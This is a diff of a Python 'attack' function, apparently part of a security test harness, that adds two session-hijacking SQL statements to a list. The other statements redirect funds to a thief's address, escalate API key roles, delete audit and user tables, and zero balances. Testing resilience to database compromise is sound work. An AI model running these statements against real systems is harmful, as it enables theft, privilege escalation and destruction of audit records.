@@ -77,6 +77,8 @@ def attack(server: Postgres, login: Login, command: str) -> None:
         "UPDATE accounts SET address = 'GTHIEF'",
         "UPDATE withdrawals SET destination = 'GTHIEF'",
         "UPDATE api_keys SET role = 'operator', subject_id = NULL",
+        "UPDATE browser_sessions SET key_id = session_id",
+        "UPDATE browser_sessions SET expires_at = 'infinity'",
         "DELETE FROM farmers",
         "DELETE FROM operator_actions",
         "UPDATE book_accounts SET balance_stroops = 0",
